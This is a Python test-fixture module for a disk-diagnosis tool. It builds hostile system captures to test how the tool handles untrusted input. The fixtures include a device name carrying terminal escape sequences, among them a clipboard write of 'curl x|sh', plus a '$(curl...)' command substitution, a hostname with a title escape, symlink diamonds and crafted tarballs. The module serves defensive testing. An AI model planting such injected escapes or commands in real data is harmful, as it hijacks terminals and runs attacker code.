"""Builders of hostile captures for the untrusted-input tests: planted names, links, loops, junk."""

from __future__ import annotations

import io
import os
import shutil
import sys
import tarfile
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

FIXTURES = Path(__file__).parent.parent / "fixtures"

EVIL_NAME = "luks\x1b]52;c;Y3VybCB4fHNo\x07[red]X[/red]\u202e\x9b$(curl${IFS}x)"
"""A dm name a hostile host could hold: OSC 52 (clipboard), rich markup, a bidi override, a C1 CSI and
command substitution."""
RAW_CONTROLS = ("\x1b", "\x07", "\x9b", "\u202e")


def copy_fixture(name: str, dest: Path) -> Path:
    """A private copy of a committed fixture sysroot (links kept) to tamper with."""
    target = dest / name
    shutil.copytree(FIXTURES / name, target, symlinks=True)
    return target


def replace_everywhere(root: Path, old: str, new: str) -> None:
    """Replace `old` with `new` in every regular file of the tree (names in dm/name, mountinfo...)."""
    for folder, _, names in os.walk(root):
        for name in names:
            path = Path(folder) / name
            if path.is_symlink() or not path.is_file():
                continue
            text = path.read_bytes()
            if old.encode() in text:
                path.write_bytes(text.replace(old.encode(), new.encode()))


def evil_capture(dest: Path) -> Path:
    """The blocked-TRIM etcd fixture with its crypt device renamed to EVIL_NAME."""
    root = copy_fixture("etcd-trim-blocked", dest)
    replace_everywhere(root, "luks-etcd", EVIL_NAME)
    (root / "proc/sys/kernel/hostname").write_text("evil\x1b]0;pwned\x07host\n")
    return root


def add_device(root: Path, kname: str, size: str = "2048", extra: dict[str, str] | None = None,
               slaves: tuple[str, ...] = (), holders: tuple[str, ...] = ()) -> Path:
    """A virtual block device in a capture's sysfs (sys/devices/virtual/block/KNAME)."""
    base = root / "sys/devices/virtual/block" / kname
    (base / "queue").mkdir(parents=True, exist_ok=True)
    (base / "slaves").mkdir(exist_ok=True)
    (base / "holders").mkdir(exist_ok=True)
    files = {"size": size, "dev": f"253:{abs(hash(kname)) % 1000}", "ro": "0", "removable": "0",
             "queue/rotational": "0", "queue/discard_max_bytes": "0", **(extra or {})}
    for rel, value in files.items():
        (base / rel).parent.mkdir(parents=True, exist_ok=True)
        (base / rel).write_text(value + "\n")
    for slave in slaves:
        link = base / "slaves" / slave
        if not link.is_symlink():
            link.symlink_to(f"../../{slave}")
    for holder in holders:
        link = base / "holders" / holder
        if not link.is_symlink():
            link.symlink_to(f"../../{holder}")
    link = root / "sys/class/block" / kname
    if not link.is_symlink():
        link.symlink_to(f"../../devices/virtual/block/{kname}")
    link = root / "sys/block" / kname
    if not link.is_symlink():
        link.symlink_to(f"../devices/virtual/block/{kname}")
    return base


def bare_capture(dest: Path) -> Path:
    """An empty but valid capture: sys/class/block and an empty mountinfo."""
    root = dest / "bare"
    (root / "sys/class/block").mkdir(parents=True)
    (root / "sys/block").mkdir(parents=True)
    (root / "sys/devices/virtual/block").mkdir(parents=True)
    (root / "proc/self").mkdir(parents=True)
    (root / "proc/self/mountinfo").write_text("")
    return root


def diamond_capture(dest: Path, levels: int) -> Path:
    """Each level two devices, both holders of both devices below: 2**levels paths to the top."""
    root = bare_capture(dest)
    for level in range(levels):
        below = [f"d{level - 1}a", f"d{level - 1}b"] if level else []
        above = [f"d{level + 1}a", f"d{level + 1}b"] if level < levels - 1 else []
        for side in "ab":
            add_device(root, f"d{level}{side}", slaves=tuple(below), holders=tuple(above))
    return root


def tar_gz(folder: Path, output: Path) -> Path:
    """A capture bundle (.tar.gz) of `folder`."""
    with tarfile.open(output, "w:gz") as tar:
        tar.add(folder, arcname="diskdoctor-capture")
    return output


def tar_with(output: Path, members: Iterator[tuple[tarfile.TarInfo, bytes | None]]) -> Path:
    """A .tar.gz written member by member (for sparse, huge or deeply nested entries)."""
    with tarfile.open(output, "w:gz", format=tarfile.GNU_FORMAT) as tar:
        for info, data in members:
            tar.addfile(info, io.BytesIO(data) if data is not None else None)
    return output


def leftovers(prefix: str = "diskdoctor-sysroot-") -> list[str]:
    """Sysroot extraction folders in the temp dir and this user's private folder there (tests give the
    CLI a private TMPDIR)."""
    tmp = os.environ.get("TMPDIR", "/tmp")
    private = os.path.join(tmp, f"diskdoctor-{os.geteuid()}")
    names = os.listdir(tmp) + (os.listdir(private) if os.path.isdir(private) else [])
    return sorted(n for n in names if n.startswith(prefix))


@contextmanager
def private_tmpdir(folder: Path) -> Iterator[Path]:
    """Point TMPDIR (inherited by the CLI children) at `folder` while the block runs."""
    folder.mkdir(exist_ok=True)
    old = os.environ.get("TMPDIR")
    os.environ["TMPDIR"] = str(folder)
    try:
        yield folder
    finally:
        if old is None:
            del os.environ["TMPDIR"]
        else:
            os.environ["TMPDIR"] = old


_RECORDING: list[list[str]] = []


def _audit(event: str, args: tuple) -> None:  # type: ignore[type-arg]
    if _RECORDING and event in ("open", "os.listdir", "os.scandir") and args and isinstance(args[0], str):
        flags = args[2] if event == "open" and len(args) > 2 and isinstance(args[2], int) else 0
        path = args[0]
        nofollow = flags & os.O_NOFOLLOW  # the last component is not followed: only its folder is reached
        _RECORDING[-1].append(os.path.realpath(os.path.dirname(path) if nofollow else path))


sys.addaudithook(_audit)


@contextmanager
def audited_opens() -> Iterator[list[str]]:
    """Record where every open or listing of this process reaches while the block runs (via one audit
    hook): the real path, or for an O_NOFOLLOW open the real path of its folder."""
    seen: list[str] = []
    _RECORDING.append(seen)
    try:
        yield seen
    finally:
        _RECORDING.pop()
